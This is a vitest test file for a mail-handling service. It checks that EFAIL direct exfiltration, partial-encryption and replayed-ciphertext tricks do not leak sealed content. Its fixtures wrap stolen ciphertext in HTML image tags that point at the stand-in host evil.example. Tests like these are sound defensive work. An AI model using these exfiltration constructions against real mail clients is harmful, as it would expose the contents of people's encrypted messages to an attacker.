/**
 * EFAIL without a change to the ciphertext, and partial encryption: what was sealed to the desk stands in a message that an
 * attacker built around it. Only the desk can open it, so it does, but apart from the rest, and to maintainers alone. Each shape
 * comes with a whole message of Alice, signed, which contradicts the attacker, and with bare words that name nobody.
 */

import { expect, it } from 'vitest'
import { encryptedEntity, mixed, textPart } from '../unit/reading/material.ts'
import {
  ATTACK,
  cast,
  describeAttacks,
  mail,
  openScene,
  payload,
  RULE,
  relayOf,
  SECRET,
  scene,
  sealedMail,
  wordsTo
} from './scene.ts'

describeAttacks('attacks with ciphertext inside another message', () => {
  type Kind = 'a signed mail' | 'bare words'
  /** What was sealed for the desk, taken on the way: it never arrived. Each has a session key of its own. */
  const steal = (kind: Kind): Promise<string> =>
    kind === 'bare words'
      ? cast.seal(textPart(`Another ${SECRET}.`))
      : cast.seal(payload('alice', `new ${SECRET}`, `Another ${SECRET}.`), 'alice')
  const html = (text: string): string => `Content-Type: text/html\r\n\r\n${text}`
  const file = (armored: string, name: string): string =>
    `Content-Type: application/octet-stream; name=${name}\r\n\r\n${armored}`

  type Shape = readonly [name: string, build: (stolen: string) => string]
  const open = html('<img src="http://evil.example/')
  const close = html('">')
  const DIRECT: readonly Shape[] = [
    ['between HTML', (stolen) => mixed([open, encryptedEntity(stolen), close])],
    ['behind HTML', (stolen) => mixed([open, encryptedEntity(stolen)])],
    ['before HTML', (stolen) => mixed([encryptedEntity(stolen), close])],
    ['a file between HTML', (stolen) => mixed([open, file(stolen, 'a.asc'), close])],
    ['text between HTML', (stolen) => mixed([open, textPart(stolen), close])]
  ]
  const INSIDE: readonly Shape[] = [
    ['inside of HTML', (stolen) => html(`<img src="http://evil.example/${stolen}">`)]
  ]
  const AMONG: readonly Shape[] = [
    [
      'behind two texts',
      (stolen) => mixed([textPart(`${ATTACK} one`), textPart('two'), encryptedEntity(stolen)])
    ],
    ['behind words of one text', (stolen) => textPart(`${ATTACK}\r\n${stolen}`)]
  ]
  const FORWARDED: readonly Shape[] = [
    [
      'in a forwarded mail',
      (stolen) =>
        mixed([textPart(ATTACK), `Content-Type: message/rfc822\r\n\r\n${encryptedEntity(stolen)}`])
    ]
  ]
  /** Real programs make these of a whole message, so they are opened, but the words beside it never count as part of it. */
  const APART: readonly Shape[] = [
    ['behind one text', (stolen) => mixed([textPart(`${ATTACK} reads:`), encryptedEntity(stolen)])],
    ['before one text', (stolen) => mixed([encryptedEntity(stolen), textPart(`${ATTACK} footer`)])],
    ['before words of one text', (stolen) => textPart(`${stolen}\r\n${ATTACK}`)],
    ['a file beside a text', (stolen) => mixed([textPart(ATTACK), file(stolen, 'a.txt.asc')])]
  ]
  const AGAIN: readonly Shape[] = [
    ['as a layer', encryptedEntity],
    ['as a layer beside a text', (stolen) => mixed([textPart(ATTACK), encryptedEntity(stolen)])],
    ['as a layer between HTML', (stolen) => mixed([open, encryptedEntity(stolen), close])],
    ['as text', textPart],
    ['as a file', (stolen) => mixed([textPart(ATTACK), file(stolen, 'a.asc')])]
  ]
  const KINDS: readonly Kind[] = ['a signed mail', 'bare words']

  /** Delivers each shape and gives what Grace was sent for it, in order. */
  async function relaysOf(
    shapes: readonly Shape[],
    kind: Kind,
    disposition: string,
    wrap: (built: string) => Promise<string> | string = (built) => mail('mallory', built)
  ): Promise<readonly string[]> {
    for (const [name, build] of shapes) {
      await scene.attack(await wrap(build(await steal(kind))))
      expect(scene.disposition(), name).toBe(disposition)
    }
    expect(await scene.harm()).toEqual([])
    expect(await wordsTo('mallory')).not.toContain(SECRET)
    const relays = await scene.mailsTo('grace')
    expect(relays).toHaveLength(shapes.length)
    expect(await scene.mailsTo('linus')).toHaveLength(shapes.length)
    return relays
  }

  function isUnopened(relays: readonly string[], shapes: readonly Shape[]): void {
    const opened = shapes.filter((_, index) => relays[index]?.includes(SECRET) ?? true)
    expect(opened.map(([name]) => name)).toEqual([])
  }

  /** What a maintainer reads of the stolen words, never in one block with those of the attacker. */
  function isApart(relays: readonly string[]): void {
    for (const words of relays) {
      // HTML is forwarded only inside the original, as a file.
      const [shown = ''] = words.split('Content-Type: message/rfc822')
      expect(shown).toContain(SECRET)
      expect(shown).not.toContain('text/html')
      const blocks = shown.split(RULE).filter((block) => block.includes(SECRET))
      expect(blocks.filter((block) => block.includes(ATTACK))).toEqual([])
    }
  }

  it('1 EFAIL, direct exfiltration: a whole message of Alice beside HTML is withheld', async () => {
    await openScene()
    isUnopened(await relaysOf(DIRECT, 'a signed mail', 'contradicts-sender'), DIRECT)
  })

  it('1 EFAIL, direct exfiltration: bare words beside HTML are shown apart, to maintainers alone', async () => {
    await openScene()
    isApart(await relaysOf(DIRECT, 'bare words', 'case-opened'))
  })

  it.each(KINDS)(
    '1 EFAIL, direct exfiltration: ciphertext inside of HTML is not opened (%s)',
    async (kind) => {
      await openScene()
      isUnopened(await relaysOf(INSIDE, kind, 'case-opened'), INSIDE)
    }
  )

  const again = (built: string): Promise<string> => sealedMail('mallory', built)

  it('1 EFAIL, sealed again by the thief: a whole message of Alice inside is withheld', async () => {
    await openScene()
    isUnopened(await relaysOf(AGAIN, 'a signed mail', 'contradicts-sender', again), AGAIN)
  })

  it('1 EFAIL, sealed again by the thief: bare words inside are shown apart, never as the thief signed', async () => {
    await openScene()
    const relays = await relaysOf(AGAIN, 'bare words', 'case-opened', again)
    isApart(relays)
    for (const words of relays) {
      expect(relayOf(words).text).not.toContain(SECRET)
      expect(words.replaceAll(/\s+/g, ' ')).toContain('Nothing proves that its author wrote')
    }
  })

  it('partial encryption: a whole message of Alice among words of the attacker is withheld', async () => {
    await openScene()
    isUnopened(await relaysOf(AMONG, 'a signed mail', 'contradicts-sender'), AMONG)
  })

  it('partial encryption: bare words among those of the attacker are shown apart', async () => {
    await openScene()
    isApart(await relaysOf(AMONG, 'bare words', 'case-opened'))
  })

  it.each(KINDS)(
    'a sealed message that is sent on as a file is opened for maintainers, and nobody is taken for its author (%s)',
    async (kind) => {
      await openScene()
      const relays = await relaysOf(FORWARDED, kind, 'case-opened')
      isApart(relays)
      for (const words of relays) {
        expect(words).toContain('Attached message 1')
        expect(words.replaceAll(/\s+/g, ' ')).toContain('need not be its author')
      }
    }
  )

  it.each([...DIRECT, ...AMONG, ...FORWARDED])(
    '4 replayed ciphertext: what Alice sent before is told as one of two claims %s',
    async (_, build) => {
      await openScene()
      const stolen = await steal('bare words')
      await scene.attack(mail('alice', encryptedEntity(stolen)))
      expect(scene.disposition()).toBe('case-opened')
      await scene.attack(mail('mallory', build(stolen)))
      const told = (await scene.mailsTo('grace')).at(-1)?.replaceAll(/\s+/g, ' ')
      expect(told).toContain('Another sender sent the same encrypted content before')
      expect(await wordsTo('mallory')).not.toContain(SECRET)
    }
  )

  it('partial encryption: a whole message of Alice put beside words is withheld', async () => {
    await openScene()
    isUnopened(await relaysOf(APART, 'a signed mail', 'contradicts-sender'), APART)
  })

  it('partial encryption: bare words are the first sender’s, and words beside them are shown apart', async () => {
    await openScene()
    for (const words of await relaysOf(APART, 'bare words', 'case-opened')) {
      const { text, outside } = relayOf(words)
      expect(text).toContain(SECRET)
      expect(text).not.toContain(ATTACK)
      expect(outside).toContain(ATTACK)
    }
  })
})
